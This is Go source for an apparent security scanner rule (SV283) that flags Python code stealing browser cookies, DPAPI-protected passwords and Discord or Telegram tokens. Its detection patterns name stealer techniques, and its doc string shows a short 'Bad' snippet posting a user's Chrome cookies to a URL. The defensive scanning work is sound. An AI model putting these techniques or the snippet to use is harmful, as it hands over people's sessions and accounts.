package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonBrowserSecrets reports Python code that extracts cookies, saved
// passwords or app tokens from browsers and desktop apps.
var PythonBrowserSecrets = register(&analyzer.Rule{
	ID:       "SV283",
	Name:     "python-browser-secrets",
	Title:    "Python extracts browser cookies, saved passwords or app tokens",
	Severity: High,
	Category: analyzer.CatCredentials,
	Tags:     []string{"security", "python", "stealer", "CWE-522", "CWE-312"},
	Inputs:   analyzer.InPython,
	Doc: `Python code does what info-stealers do with browsers and desktop apps:

- loads cookies with ` + "`browser_cookie3`" + `, ` + "`browsercookie`" + ` or ` + "`pycookiecheat`" + `;
- decrypts saved secrets: ` + "`win32crypt.CryptUnprotectData`" + ` (DPAPI), the Chromium ` + "`os_crypt`" + `
  ` + "`encrypted_key`" + ` from ` + "`Local State`" + ` (the name alone, in a module that never names ` + "`Local State`" + ` or
  ` + "`os_crypt`" + `, is any envelope-encryption field);
- hunts Discord/Slack/Telegram session tokens (` + "`Local Storage/leveldb`" + ` with token
  regexes, ` + "`tdata`" + `).

**Critical** when the file also sends data over the network, **high** otherwise.
**Medium** when a ` + "`browser_cookie3`" + ` jar is bound to a variable that only ever goes, whole, as
the ` + "`cookies=`" + ` of GET or HEAD requests (` + "`requests`" + `, ` + "`httpx`" + `), directly or through the
parameters of local functions: the client sends each cookie only to the domain that set it,
so the session goes back to its issuer (a scraper reading pages the user can open). Reading
the jar's values, a dict of it, a POST acting as the user, or any other use stays high or
critical.
Session cookies and tokens give an attacker the user's accounts without a password or
second factor.

**Fix:** use the service's API with a token the user creates for the skill.

Bad:

` + "```python" + `
import browser_cookie3, requests
jar = browser_cookie3.chrome()
requests.post(URL, data={c.name: c.value for c in jar})
` + "```" + `

Good:

` + "```python" + `
import os, requests
requests.get("https://api.github.com/user", headers={"Authorization": "token " + os.environ["GITHUB_TOKEN"]})
` + "```",
	Run: runPythonBrowserSecrets,
})

var pyTokenHuntRx = match.MustRx(`(Local Storage[/\\]+leveldb|\[\\w-\]\{24\}|mfa\\\.|dQw4w9WgXcQ:|encrypted_key|os_crypt|[/\\]tdata\b|Login Data|Web Data)`)

// pyTokenHuntWords prefilter strings before the regular expression.
var pyTokenHuntWords = []string{"Local Storage", "{24}", "mfa", "dQw4", "encrypted_key", "os_crypt", "tdata", "Login Data", "Web Data"}

func runPythonBrowserSecrets(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	type hit struct {
		start, end int
		what       string
	}
	var hits []hit
	seenLib := false
	var toIssuer *hit // a cookie load whose jar only goes to the sites that set its cookies
	for _, c := range m.Calls {
		start, end := m.Span(c)
		switch {
		case pyfacts.HasPrefixAny(c.Name, "browser_cookie3.", "browsercookie.", "pycookiecheat.", "rookiepy."):
			if strings.HasPrefix(c.Name, "browser_cookie3.") && pyCookieJarToIssuer(m, c) {
				if toIssuer == nil {
					toIssuer = &hit{start, end, "loads browser cookies (" + c.Name + ") as the cookie jar of GET requests, which send each cookie only to the site that set it (reads pages with the user's browser session)"}
				}
				continue
			}
			if !seenLib {
				hits = append(hits, hit{start, end, "loads browser cookies (" + c.Name + ")"})
				seenLib = true
			}
		case strings.HasSuffix(c.Name, "CryptUnprotectData"):
			hits = append(hits, hit{start, end, "decrypts DPAPI-protected secrets (CryptUnprotectData)"})
		}
	}
	// "encrypted_key" is the browser's master key only beside the file or
	// section that holds it (Local State, os_crypt); alone it is any
	// envelope-encryption field ({"encrypted_key": ciphertext_blob})
	src := string(m.Src)
	browserKeyStore := strings.Contains(src, "os_crypt") || strings.Contains(src, "Local State")
	for i := range m.Toks {
		if m.Toks[i].Kind != python.String {
			continue
		}
		v, _ := m.Value(i)
		if !pyfacts.ContainsAny(v, pyTokenHuntWords) {
			continue
		}
		if loc := pyTokenHuntRx.FindString(v); loc != "" && (len(hits) > 0 || strings.Contains(loc, "leveldb") || strings.Contains(loc, "encrypted_key") && browserKeyStore || strings.Contains(loc, "{24}") || strings.Contains(loc, "dQw4")) {
			hits = append(hits, hit{m.Toks[i].Start, m.Toks[i].End, "looks for app or browser secrets (" + pyfacts.ClipStr(loc, 40) + ")"})
			break
		}
	}
	if len(hits) == 0 {
		if toIssuer != nil {
			pyfacts.Report(p, m, analyzer.Diagnostic{Start: toIssuer.start, End: toIssuer.end, Severity: Medium, Message: toIssuer.what})
		}
		return nil
	}
	sinkNote := pyfacts.SinkNote(m)
	for _, h := range hits {
		sev, msg := High, h.what
		if note := sinkNote(); note != "" {
			sev, msg = Critical, msg+note
		}
		pyfacts.Report(p, m, analyzer.Diagnostic{Start: h.start, End: h.end, Severity: sev, Message: msg})
	}
	return nil
}

// pyCookieJarToIssuer reports a browser_cookie3 load (a CookieJar) bound
// to a variable that only ever goes, whole, as the cookies= of GET or HEAD
// requests (requests, httpx), directly or through the parameters of local
// functions: the client sends each cookie only to the domain that set it,
// so the secret goes back to its issuer. Any other use (iterating the
// jar, reading values, a dict of it, a POST acting as the user, a call
// the scanner cannot follow) is not this role.
func pyCookieJarToIssuer(m *python.Module, c *python.Call) bool {
	for name, as := range m.Assigns {
		for _, a := range as {
			if a.Start == c.Head && a.End == c.Close+1 && !strings.Contains(name, ".") && len(as) == 1 {
				return pyJarUsesToIssuer(m, name, m.Enclosing(a.Tok), a.Tok, 0)
			}
		}
	}
	return false
}

func pyJarUsesToIssuer(m *python.Module, name string, scope *python.Func, def, depth int) bool {
	if depth > 3 {
		return false
	}
	uses := 0
	for _, r := range m.Refs {
		if r.Var != name || r.Name != name || r.Tok == def || m.Enclosing(r.Tok) != scope && (scope == nil || m.Enclosing(r.Tok) == nil || m.Enclosing(r.Tok).Lo != scope.Lo) {
			continue
		}
		if m.Is(r.End, "=") || pyInDefHeader(m, r.Tok) {
			continue // a keyword's name (cookies=cookies) or a parameter
		}
		uses++
		call, arg, pos := pyArgAt(m, r)
		if call == nil {
			return false
		}
		if arg.Keyword == "cookies" && pyGetRequest(call.Name) {
			continue
		}
		// a local function: the parameter it binds, judged in its body
		f := pyLocalFunc(m, call.Name)
		if f == nil {
			return false
		}
		param := arg.Keyword
		if param == "" && pos < len(f.Params) {
			param = f.Params[pos]
		}
		if param == "" || m.ParamIndex(f, param) < 0 || !pyJarUsesToIssuer(m, param, f, -1, depth+1) {
			return false
		}
	}
	return uses > 0
}

// pyArgAt returns the call one of whose arguments is exactly reference r,
// the argument and its position among the positional ones.
func pyArgAt(m *python.Module, r python.Ref) (*python.Call, python.Arg, int) {
	for _, c := range m.Calls {
		if c.Open > r.Tok || c.Close < r.Tok {
			continue
		}
		pos := 0
		for _, a := range c.Args {
			if a.Start == r.Tok && a.End == r.End {
				return c, a, pos
			}
			if a.Keyword == "" {
				pos++
			}
		}
	}
	return nil, python.Arg{}, 0
}

// pyGetRequest reports an HTTP client's GET or HEAD call.
func pyGetRequest(name string) bool {
	switch name {
	case "requests.get", "requests.head", "httpx.get", "httpx.head",
		"requests.Session().get", "requests.Session().head", "requests.session().get", "httpx.Client().get":
		return true
	}
	return false
}

// pyLocalFunc returns the module's plain function of that name (not a
// method), when there is exactly one.
func pyLocalFunc(m *python.Module, name string) *python.Func {
	var out *python.Func
	fs := m.Funcs()
	for i := range fs {
		if fs[i].Name == name && !fs[i].Method {
			if out != nil {
				return nil
			}
			out = &fs[i]
		}
	}
	return out
}

// pyInDefHeader reports a token inside the parameter list of a def.
func pyInDefHeader(m *python.Module, tok int) bool {
	f := m.Enclosing(tok)
	if f == nil {
		return false
	}
	for i := f.Lo; i < f.Hi && i < tok; i++ {
		if m.Is(i, "(") {
			return m.Match[i] >= 0 && tok < int(m.Match[i])
		}
	}
	return false
}
